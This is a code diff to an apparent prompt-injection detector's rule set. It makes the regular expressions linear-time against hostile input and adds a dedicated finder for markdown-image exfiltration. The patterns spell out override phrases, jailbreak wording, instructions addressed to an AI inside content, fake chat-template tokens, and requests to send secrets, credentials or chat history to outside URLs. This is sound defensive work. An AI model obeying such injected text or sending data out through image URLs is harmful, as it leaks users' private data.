@@ -34,6 +34,25 @@ export interface Rule {
   description: string;
   /** Read the raw text instead of the canonical view (markup-sensitive rules). */
   raw?: boolean;
+  /**
+   * `pattern.exec(text)` (the same match: index and text) in linear time, for a rule whose
+   * pattern alone is not linear on hostile input. Read matches through {@linkcode ruleMatch}.
+   */
+  find?: (text: string) => RegExpExecArray | null;
+}
+
+/**
+ * The first match of `rule` in `text`: what `rule.pattern.exec(text)` returns.
+ *
+ * @example
+ * ```ts
+ * import { ruleMatch, RULES } from "./rules.ts";
+ * const rule = RULES.find((r) => r.id === "markdown_image_exfil")!;
+ * console.log(ruleMatch(rule, "![x](https://e.example/p?q={data})")?.index); // 0
+ * ```
+ */
+export function ruleMatch(rule: Rule, text: string): RegExpExecArray | null {
+  return rule.find ? rule.find(text) : rule.pattern.exec(text);
 }
 
 const W = String.raw`(?:\s+[\w'’-]+){0,3}?`;
@@ -55,6 +74,66 @@ const LEAK_VERB =
   String.raw`tell me|give me|write out|spell out|share|recite|paste|return|echo)`;
 
 const r = (body: string) => new RegExp(body, "iu");
+
+// Hostile input: no rule may take more than linear time on the text it reads, since every
+// message and document goes through them in a 200,000-character window on the event loop.
+// Each rewrite below matches the same texts, at the same index, with the same match text
+// (rules_redos_test.ts holds the patterns as they were and compares):
+//
+// - A run that many starts share is scanned once. From each newline of a run of newlines,
+//   `\n\s*` and `^\s*` (m flag) scanned the rest of the run (200 KB of `\n`: 83 s in
+//   `detectInjection`). A negative lookbehind, placed after the start's first character so that
+//   it runs only there, now drops a start that an earlier start in the same stretch of
+//   whitespace covers: whatever the later one can match the earlier one, tried first, can too.
+//   The lookbehinds are lazy, so each stops at the nearest earlier start. `markdown_image_exfil`
+//   is searched by `findMarkdownImageExfil`, on the same idea.
+// - Two runs that can split one stretch of text between them every way are made one:
+//   `\s*:?\s*$` becomes `\s*(?::\s*)?$` ("## system" and 200 KB of spaces: 162 s), and
+//   `\S+@\S+\.\w+` a lookahead that finds the first `@` and the first `.` after it without
+//   backtracking, then `\S*\.\w+`, which ends where the greedy pattern ended ("send the data to"
+//   and 200 KB of `@`: 50 s).
+// - The views the rules read have their whitespace collapsed, so there a `\s*` spans at most one
+//   character. The same two-runs rewrite keeps `addressed_to_ai` (`[.!?:\n]\s*`),
+//   `important_instructions` (`\s*[!:]*\s*`) and `policy_bypass` (`\s+(?:openai|...)?'?s?\s*`)
+//   linear on raw text too, should a view ever keep runs of whitespace.
+
+/** The markdown image rule's pattern (see {@linkcode findMarkdownImageExfil}). */
+const MARKDOWN_IMAGE_EXFIL =
+  /!\[[^\]]*\]\(https?:\/\/[^)\s]*[?&][\w-]+=(?:\{|\[|%7b|<|\$\{|\{\{)/iu;
+const MARKDOWN_IMAGE_EXFIL_AT = new RegExp(MARKDOWN_IMAGE_EXFIL.source, "iuy");
+const IMAGE_URL_HEAD = /\(https?:\/\//iuy;
+const IMAGE_URL_END = /[)\s]/gu;
+
+/**
+ * `MARKDOWN_IMAGE_EXFIL.exec(text)` in linear time. As a regex search, every `![` scanned the
+ * rest of its alt text (200 KB of `![`: 14.5 s in `detectInjection`) and every image whose URL
+ * ran on scanned the rest of the URL (200 KB of `![](http://`: 3.3 s). Here only the first
+ * `![` after each `]` is tried: a later one's alt text ends at the same `]`, so it can match
+ * only where the first could, and the regex would have found the first; and a URL that an
+ * earlier image searched in vain, up to the same `)` or space, is not searched again (a later
+ * image inside it reads a tail of the same URL). A start that is tried is matched by the
+ * pattern itself (sticky), so the match is the regex's.
+ */
+function findMarkdownImageExfil(text: string): RegExpExecArray | null {
+  let failedUrlEnd = -1;
+  for (let from = 0;;) {
+    const start = text.indexOf("![", from);
+    if (start < 0) return null;
+    const close = text.indexOf("]", start + 2);
+    if (close < 0) return null;
+    from = close + 1;
+    IMAGE_URL_HEAD.lastIndex = close + 1;
+    if (!IMAGE_URL_HEAD.test(text)) continue;
+    // Inside (or just after) a URL searched in vain: a tail of it, or nothing, is left.
+    if (IMAGE_URL_HEAD.lastIndex <= failedUrlEnd) continue;
+    IMAGE_URL_END.lastIndex = IMAGE_URL_HEAD.lastIndex;
+    const urlEnd = IMAGE_URL_END.exec(text)?.index ?? text.length;
+    MARKDOWN_IMAGE_EXFIL_AT.lastIndex = start;
+    const m = MARKDOWN_IMAGE_EXFIL_AT.exec(text);
+    if (m) return m;
+    failedUrlEnd = urlEnd;
+  }
+}
 
 /** The rules. */
 export const RULES: readonly Rule[] = [
@@ -301,7 +380,7 @@ export const RULES: readonly Rule[] = [
     category: "jailbreak_persona",
     pattern: r(
       String
-        .raw`\b(?:ignor|bypass|violat|break|disregard|circumvent|evad|get around|overrid)\w*(?:\s+\w+){0,2}?\s+(?:openai|anthropic|google|meta|microsoft|the|your|its|all|any)?'?s?\s*(?:content|safety|usage|ethical|moderation)\s+(?:polic(?:y|ies)|guidelines|filters?|rules|restrictions)`,
+        .raw`\b(?:ignor|bypass|violat|break|disregard|circumvent|evad|get around|overrid)\w*(?:\s+\w+){0,2}?\s+(?:(?:(?:openai|anthropic|google|meta|microsoft|the|your|its|all|any)'?s?|'s?|s)\s*)?(?:content|safety|usage|ethical|moderation)\s+(?:polic(?:y|ies)|guidelines|filters?|rules|restrictions)`,
     ),
     weight: 0.82,
     description: "asks to bypass content policy",
@@ -351,7 +430,7 @@ export const RULES: readonly Rule[] = [
     category: "exfiltration",
     pattern: r(
       String
-        .raw`\b(?:send|post|upload|forward|transmit|leak|exfiltrate|email|e-mail|copy|submit|append|include)\b(?:\s+[\w'’-]+){0,4}?\s+(?:conversation|chat(?: history)?|history|data|secrets?|api[ _-]?keys?|keys|passwords?|credentials|tokens?|cookies?|files?|documents?|emails?|contacts|system prompt|env(?:ironment)? variables|\.env|ssh keys?|user(?:'s)? (?:data|info\w*|details))\b.{0,60}?\b(?:to|at|into)\s+(?:https?:\/\/|www\.|\S+@\S+\.\w+|(?:this|the following|my|our|an? external|the attacker'?s?) (?:url|link|address|endpoint|server|webhook|email))`,
+        .raw`\b(?:send|post|upload|forward|transmit|leak|exfiltrate|email|e-mail|copy|submit|append|include)\b(?:\s+[\w'’-]+){0,4}?\s+(?:conversation|chat(?: history)?|history|data|secrets?|api[ _-]?keys?|keys|passwords?|credentials|tokens?|cookies?|files?|documents?|emails?|contacts|system prompt|env(?:ironment)? variables|\.env|ssh keys?|user(?:'s)? (?:data|info\w*|details))\b.{0,60}?\b(?:to|at|into)\s+(?:https?:\/\/|www\.|(?=\S[^\s@]*@\S[^\s.]*(?:\.(?!\w)[^\s.]*)*\.\w)\S*\.\w+|(?:this|the following|my|our|an? external|the attacker'?s?) (?:url|link|address|endpoint|server|webhook|email))`,
     ),
     weight: 0.82,
     description: "asks to send private data to an outside address",
@@ -360,7 +439,8 @@ export const RULES: readonly Rule[] = [
     id: "markdown_image_exfil",
     category: "exfiltration",
     raw: true,
-    pattern: /!\[[^\]]*\]\(https?:\/\/[^)\s]*[?&][\w-]+=(?:\{|\[|%7b|<|\$\{|\{\{)/iu,
+    pattern: MARKDOWN_IMAGE_EXFIL,
+    find: findMarkdownImageExfil,
     weight: 0.85,
     description: "a markdown image whose URL would carry data out",
   },
@@ -396,7 +476,7 @@ export const RULES: readonly Rule[] = [
     category: "indirect",
     pattern: r(
       String
-        .raw`(?:^|[.!?:\n]\s*|\b(?:hey|dear|attention|note to(?: the)?|instructions? for(?: the)?|message (?:to|for)(?: the)?|to(?: the)?)\s+)(?:ai\s+)?${AI}s?\b[,:!]?\s+(?:please\s+)?(?:ignore|disregard|forget|you must|you should now|stop|instead|do not|don'?t|new instructions|execute|run|send|reveal|output|respond only|from now on)`,
+        .raw`(?:^|(?:[.!?:]|\n(?<![.!?:\n]\s*?\n))\s*|\b(?:hey|dear|attention|note to(?: the)?|instructions? for(?: the)?|message (?:to|for)(?: the)?|to(?: the)?)\s+)(?:ai\s+)?${AI}s?\b[,:!]?\s+(?:please\s+)?(?:ignore|disregard|forget|you must|you should now|stop|instead|do not|don'?t|new instructions|execute|run|send|reveal|output|respond only|from now on)`,
     ),
     weight: 0.7,
     description: "an instruction addressed to the AI inside content",
@@ -406,7 +486,7 @@ export const RULES: readonly Rule[] = [
     category: "indirect",
     pattern: r(
       String
-        .raw`\b(?:important|attention|urgent|note|notice|system (?:note|notice|update)|admin(?:istrator)? (?:note|message))\s*[!:]*\s*(?:new\s+|updated\s+|additional\s+)?(?:(?:instructions?|message|task|directive|order)s?\s+)?(?:for|to)\s+(?:the\s+|any\s+|all\s+)?${AI}s?\b|\binstructions? (?:for|to) (?:the |any |all )?${AI}s?\b`,
+        .raw`\b(?:important|attention|urgent|note|notice|system (?:note|notice|update)|admin(?:istrator)? (?:note|message))\s*(?:[!:]+\s*)?(?:new\s+|updated\s+|additional\s+)?(?:(?:instructions?|message|task|directive|order)s?\s+)?(?:for|to)\s+(?:the\s+|any\s+|all\s+)?${AI}s?\b|\binstructions? (?:for|to) (?:the |any |all )?${AI}s?\b`,
     ),
     weight: 0.82,
     description: "an 'important instructions for the AI' notice",
@@ -446,7 +526,7 @@ export const RULES: readonly Rule[] = [
     category: "template_injection",
     raw: true,
     pattern:
-      /<\|(?:im_start|im_end|system|user|assistant|endoftext|eot_id|start_header_id|end_header_id)\|>|\[\/?INST\]|<<\/?SYS>>|^\s*#{2,}\s*(?:system|instruction|new instructions?)\s*:?\s*$|<\/?system>|\n\s*(?:system|assistant)\s*:\s*(?:you are|new|ignore|override)/imu,
+      /<\|(?:im_start|im_end|system|user|assistant|endoftext|eot_id|start_header_id|end_header_id)\|>|\[\/?INST\]|<<\/?SYS>>|^(?<!^\s+?)\s*#{2,}\s*(?:system|instruction|new instructions?)\s*(?::\s*)?$|<\/?system>|\n(?<!\n\s*?\n)\s*(?:system|assistant)\s*:\s*(?:you are|new|ignore|override)/imu,
     weight: 0.72,
     description: "chat-template tokens that fake a system turn",
   },
